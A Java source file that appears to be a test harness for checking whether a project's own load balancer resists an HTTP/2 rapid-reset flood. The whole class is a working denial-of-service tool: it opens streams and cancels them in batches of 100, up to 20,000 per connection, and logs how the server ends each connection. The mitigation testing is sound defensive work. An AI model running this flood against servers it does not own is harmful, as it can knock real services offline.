package com.foobar.stack;

import java.io.IOException;
import java.net.SocketTimeoutException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CompletableFuture;

import javax.net.ssl.SSLSocketFactory;

/**
 * An HTTP/2 client that asks for the list and takes each request back at once, on one
 * connection after another: a program that needs nothing but a Java runtime. Confined to
 * one thread, but for what waits for the end of a connection.
 */
final class RapidReset {

	private static final long DURATION_NANOS = Duration.ofSeconds(5).toNanos();

	private static final int BATCH = 100;

	private static final int MOST = 20_000;

	private final Http2Connection connection;

	private int streams;

	private RapidReset(Http2Connection connection) {
		this.connection = connection;
	}

	/**
	 * Prints how a request ends that is not taken back, how many streams there were, and
	 * how many connections had which end.
	 * @param arguments the load balancer's address
	 */
	static void main(String... arguments) throws IOException {
		SSLSocketFactory trusting = StackAuthority.trusting(System.getenv("AUTHORITY")).getSocketFactory();
		Map<String, Integer> ends = new TreeMap<>();
		String first = "";
		int streams = 0;
		for (long start = System.nanoTime(); System.nanoTime() - start < DURATION_NANOS;) {
			try (Http2Connection connection = Http2Connection.open(trusting, arguments[0], 443)) {
				RapidReset client = new RapidReset(connection);
				first = first.isEmpty() ? client.ask() : first;
				ends.merge(client.flood(), 1, Integer::sum);
				streams += client.streams;
			}
		}
		System.out.printf("%s %d %s%n", first, streams, ends);
	}

	private String ask() throws IOException {
		int id = nextStream();
		this.connection.send(List.of(request(id)));
		return this.connection.await(id).toString();
	}

	/** Opens and resets streams until the connection is ended, and returns how. */
	private String flood() {
		CompletableFuture<String> end = CompletableFuture.supplyAsync(this::awaitEnd);
		try {
			while (this.streams < MOST) {
				this.connection.send(batch());
			}
		}
		catch (IOException ex) {
			// it is ended, as it should be
		}
		return end.join();
	}

	private String awaitEnd() {
		try {
			return this.connection.await(0).toString();
		}
		catch (SocketTimeoutException ex) {
			return "NONE";
		}
		catch (IOException ex) {
			return "END";
		}
	}

	private List<Http2Frame> batch() {
		List<Http2Frame> batch = new ArrayList<>();
		for (int stream = 0; stream < BATCH; stream++) {
			int id = nextStream();
			batch.add(request(id));
			batch.add(Http2Frame.cancel(id));
		}
		return batch;
	}

	private int nextStream() {
		return 2 * this.streams++ + 1;
	}

	private static Http2Frame request(int id) {
		return Http2Frame.headers(id, true, ":method", "GET", ":scheme", "https", ":authority", "localhost", ":path",
				"/api/entries");
	}

}
